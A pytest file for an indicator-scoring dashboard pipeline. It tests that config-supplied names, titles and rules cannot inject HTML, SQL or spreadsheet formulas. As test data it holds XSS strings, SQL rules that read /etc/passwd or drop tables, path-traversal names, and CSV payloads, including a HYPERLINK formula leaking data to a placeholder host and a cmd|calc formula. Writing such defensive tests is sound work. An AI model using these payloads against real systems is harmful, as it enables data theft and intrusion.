"""Config is written by people, not by the code: a partnership's indicators.local.yaml, the LA list,
the partnership's name. Whatever it holds must not reach the site as markup, the exports as
spreadsheet formulas, or the scoring query as SQL of its own."""

from __future__ import annotations

import dataclasses
import shutil
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pandas as pd
import pytest
import yaml

import assets.config
import assets.scoring
from assets.scoring import FrameworkError, Indicator, framework, score
from dashboards import exports as exports_module
from dashboards import pages as pages_module
from dashboards.exports import neutralised, write_csv, write_exports
from dashboards.pages import file_part, indicator_file, la_file
from dashboards.publication import build_publication
from dashboards.site import write_site

FIXTURE = Path(__file__).parent / "fixtures" / "tiny_pack" / "E06000001_2025Q3"
REPO_CONFIG = Path(assets.config.__file__).resolve().parents[1] / "config"
HOSTILE_ID = 'X" onmouseover="alert(1)'
HOSTILE_TEXT = '</script><script>alert("title")</script> "quoted" \'single\' & <b>bold</b>'


def local_indicator(**overrides) -> dict:
    entry = {"id": "LOC1", "domain": "PI", "title": "A local indicator", "question": "Is it?",
             "applicable": "true", "met": "planning_meetings >= 1", "direction": "higher", "source": "rsm",
             "applies_to": "Every case.", "met_when": "At least one planning meeting was held in the quarter."}
    entry.update(overrides)
    return entry


@pytest.fixture
def local_framework(tmp_path, monkeypatch):
    """Loads the framework the way the pipeline does, from a config folder holding the given
    indicators.local.yaml."""
    config = tmp_path / "config"
    shutil.copytree(REPO_CONFIG, config, ignore=shutil.ignore_patterns("indicators.local.yaml"))
    monkeypatch.setattr(assets.config, "CONFIG_DIR", config)
    monkeypatch.setattr(assets.scoring, "CONFIG_DIR", config)

    def load(local: dict):
        (config / "indicators.local.yaml").write_text(yaml.safe_dump(local), encoding="utf-8")
        framework.cache_clear()
        return framework()

    yield load
    framework.cache_clear()


# ---------------------------------------------------------------- names


def test_a_local_indicator_id_that_breaks_out_of_an_attribute_is_refused_at_load(local_framework):
    with pytest.raises(FrameworkError, match=r"indicator number 27: the id .*onmouseover.* may use only capital"):
        local_framework({"indicators": [local_indicator(id=HOSTILE_ID)]})


@pytest.mark.parametrize("local, message", [
    ({"domains": {"p<i": {"title": "x", "scored": False}}}, "domain: the code 'p<i'"),
    ({"flags": {"Bad Flag": "true"}}, "flag: the name 'Bad Flag'"),
    ({"tallies": {"t)": {"from": "meetings", "count_where": "true"}}}, r"tally: the name 't\)'"),
    ({"tallies": {"agencies": {"from": "meetings", "count_where": "true", "count_distinct": "a) FROM x --"}}},
     "tally agencies: the count_distinct column"),
    ({"sources": {"src'": "A source"}}, "source: the key"),
])
def test_other_names_are_held_to_their_patterns(local_framework, local, message):
    with pytest.raises(FrameworkError, match=message):
        local_framework(local)


def test_the_shipped_frameworks_still_load():
    from assets.statutory import statutory_framework

    assert len(framework().indicators) == 26
    assert "ST1-NEG" in {i.id for i in statutory_framework().indicators}


# ---------------------------------------------------------------- rules


@pytest.mark.parametrize("rule, refused", [
    ("(SELECT content FROM read_text('/etc/passwd')) IS NOT NULL", "may not use a subquery"),
    ("getenv('HOME') IS NOT NULL", "may not use getenv"),
    ("current_setting('threads') > 0", "may not use current_setting"),
    ("true) AS x FROM cases; DROP TABLE cases; --", "may not hold a comment"),
    # The same without the comment: the parsed statement, not only the comment, ends it.
    ("true) AS x FROM cases; DROP TABLE cases; SELECT (1", "is not one expression"),
    ("true) AS met; SELECT (1", "is not one expression"),
    ("true) AS met FROM read_text('/etc/passwd') WHERE (true", "is not one expression"),
    ("true /* a comment */", "may not hold a comment"),
    ("row_number() OVER () > 1", "may not use a window function"),
    ("main.lower(plan_type) = 'cp'", "may not name a schema"),
])
def test_a_rule_outside_the_rule_language_is_refused_naming_the_indicator(local_framework, rule, refused):
    with pytest.raises(FrameworkError, match=rf"^indicator LOC1: met {refused}"):
        local_framework({"indicators": [local_indicator(met=rule)]})


def test_flag_and_tally_rules_are_checked_too(local_framework):
    with pytest.raises(FrameworkError, match="^flag spy: may not use a subquery"):
        local_framework({"flags": {"spy": "(SELECT count(*) FROM glob('/*')) > 0"}})
    with pytest.raises(FrameworkError, match="^tally spy: count_where may not use getvariable"):
        local_framework({"tallies": {"spy": {"from": "meetings", "count_where": "getvariable('x') IS NULL"}}})


def test_a_rule_using_allowed_functions_still_loads(local_framework):
    fw = local_framework({"indicators": [local_indicator(
        applicable="list_contains(harm_types, 'CSE') AND lower(coalesce(plan_type, '')) <> 'cp'",
        met="date_diff('day', referral_date, make_date(2025, 9, 30)) > 30 OR planning_meetings >= 1")]})
    assert fw.indicator("LOC1").met.startswith("date_diff")


def cases_connection() -> duckdb.DuckDBPyConnection:
    from assets.warehouse import SCHEMA_SQL

    con = duckdb.connect(":memory:")
    con.execute(SCHEMA_SQL)
    con.execute("INSERT INTO cases (la_code, period, case_key, harm_types, intrafamilial_harm, lives_with_parent) "
                "VALUES ('E06000001', '2025Q3', 'c1', ['CSE'], false, true)")
    return con


def test_rules_run_without_access_to_files_even_past_the_checks(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("not for rules", encoding="utf-8")
    fw = framework()
    reading = Indicator(id="SPY", domain="PI", title="Spy", question="?", applicable="true",
                        met=f"(SELECT content FROM read_text('{secret}')) IS NOT NULL", value=None,
                        direction="higher", informational=True, source="rsm", citation="")
    con = cases_connection()
    with pytest.raises(duckdb.PermissionException, match="disabled by configuration"):
        score(con, fw=dataclasses.replace(fw, indicators=(*fw.indicators, reading)))
    assert con.execute("SELECT current_setting('enable_external_access')").fetchall() == [(False,)]


def test_an_indicator_id_is_quoted_in_the_scoring_query():
    fw = framework()
    quoted = dataclasses.replace(fw.indicators[0], id="PI1' AS indicator_id, 1 AS x --")
    con = cases_connection()
    score(con, fw=dataclasses.replace(fw, indicators=(quoted,)))
    assert con.execute("SELECT DISTINCT indicator_id FROM case_indicators").fetchall() == [(quoted.id,)]


# ---------------------------------------------------------------- site


class PageParts(HTMLParser):
    """Every start tag's attributes, every script's text, and the text of the h1."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.attributes, self.scripts, self.h1, self.inside = [], [], "", None

    def handle_starttag(self, tag, attrs):
        self.attributes += [(tag, name, value) for name, value in attrs]
        self.inside = tag if tag in ("script", "h1") else None
        if tag == "script":
            self.scripts.append("")

    def handle_endtag(self, tag):
        self.inside = None

    def handle_data(self, data):
        if self.inside == "script":
            self.scripts[-1] += data
        elif self.inside == "h1":
            self.h1 += data


@pytest.fixture(scope="module")
def tiny_publication(tmp_path_factory):
    """The tiny pack loaded and scored by the real code, published."""
    from assets import warehouse
    from assets.ingest import ingest_inbox

    home = tmp_path_factory.mktemp("untrusted")
    shutil.copytree(FIXTURE, home / "inbox" / FIXTURE.name)
    con = warehouse.connect(home / "w.duckdb")
    try:
        ingest_inbox(con, home / "inbox", b"k")
        score(con)
        return build_publication(con)
    finally:
        con.close()


def hostile(publication):
    """The publication with an LA name and an indicator title holding markup and quotes."""
    rates, submissions = publication.rates.copy(), publication.submissions.copy()
    for frame in (rates, submissions):
        frame.loc[~frame["is_total"], "la_name"] = f"LA {HOSTILE_TEXT}"
    fw = publication.framework
    first = dataclasses.replace(fw.indicators[0], title=f"Title {HOSTILE_TEXT}")
    return dataclasses.replace(publication, rates=rates, submissions=submissions,
                               framework=dataclasses.replace(fw, indicators=(first, *fw.indicators[1:])))


def test_names_and_titles_from_config_are_escaped_in_every_page(tiny_publication, tmp_path, monkeypatch):
    monkeypatch.setattr(pages_module, "partnership_name", lambda: f"Partnership {HOSTILE_TEXT}")
    written = write_site(hostile(tiny_publication), tmp_path / "site").pages
    assert len(written) > 5
    for path in written:
        page = path.read_text(encoding="utf-8")
        assert HOSTILE_TEXT not in page and "<script>alert" not in page, path.name
        parts = PageParts()
        parts.feed(page)
        assert not [a for a in parts.attributes if a[1].startswith("on")], path.name
        # The page's own scripts only: plotly.js and one drawing call per chart.
        for (tag, name, value) in parts.attributes:
            if tag == "script":
                assert (name, value) == ("src", "plotly.min.js"), path.name
        assert parts.scripts[0] == ""
        for script in parts.scripts[1:]:
            assert script.startswith("Plotly.newPlot(") and script.endswith(");"), path.name
    la_page = (tmp_path / "site" / la_file("E06000001")).read_text(encoding="utf-8")
    parts = PageParts()
    parts.feed(la_page)
    assert parts.h1 == f"LA {HOSTILE_TEXT}"  # shown as the text it is
    assert f'aria-label="Dot chart of LA {pages_module.esc(HOSTILE_TEXT)}' in la_page
    index = (tmp_path / "site" / "overview.html").read_text(encoding="utf-8")
    assert f"Title {pages_module.esc(HOSTILE_TEXT)}" in index and "Partnership &lt;/script&gt;" in index


def test_page_file_names_from_ids_stay_in_the_site_folder():
    assert indicator_file("PI1") == "indicator-PI1.html" and la_file("E06000001") == "la-E06000001.html"
    for name in (HOSTILE_ID, "../../etc/passwd", "a/b\\c"):
        part = file_part(name)
        assert "/" not in part and "\\" not in part and '"' not in part and "." not in part and " " not in part


# ---------------------------------------------------------------- exports


def test_export_cells_that_a_spreadsheet_would_run_are_prefixed_in_csv_only(tiny_publication, tmp_path,
                                                                            monkeypatch):
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")'
    fw = tiny_publication.framework
    first = dataclasses.replace(fw.indicators[0], title=formula, question="@SUM(1+1)*cmd|' /C calc'!A0")
    publication = dataclasses.replace(tiny_publication, framework=dataclasses.replace(
        fw, indicators=(first, *fw.indicators[1:])))
    monkeypatch.setattr(exports_module, "FILES_DICTIONARY", [*exports_module.FILES_DICTIONARY,
                                                             ("indicators", "note", "string", "-2+3 in a description")])
    out = tmp_path / "exports"
    write_exports(publication, out)
    csv = pd.read_csv(out / "indicators.csv", dtype=str, keep_default_na=False)
    assert csv.loc[0, "title"] == "'" + formula
    assert csv.loc[0, "question"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert csv.loc[1, "title"] == fw.indicators[1].title
    parquet = pd.read_parquet(out / "indicators.parquet")
    assert parquet.loc[0, "title"] == formula
    dictionary = pd.read_csv(out / "data_dictionary.csv", dtype=str)
    assert dictionary.loc[dictionary["column"] == "note", "description"].tolist() == ["'-2+3 in a description"]
    rates = pd.read_csv(out / "indicator_rates.csv", dtype=str, keep_default_na=False)
    assert not rates.apply(lambda column: column.str.startswith("'")).any().any()


def test_numbers_and_symbols_are_left_alone(tmp_path):
    for cell in ("-0.25", "-3", "+4", "-1e-05", "c", "x", "z", "", "0.500000", -0.25, -3, True):
        assert neutralised(cell) == cell
    for cell in ("-1+2", "=1", "+A1", "@A1", "\t=1", "\r=1", "-"):
        assert neutralised(cell) == "'" + cell
    frame = pd.DataFrame({"name": ["=cmd", "plain"], "change": [-0.25, 1.5], "as_text": ["-0.25", "z"]})
    write_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", dtype=str)
    assert back.to_dict("list") == {"name": ["'=cmd", "plain"], "change": ["-0.25", "1.5"], "as_text": ["-0.25", "z"]}
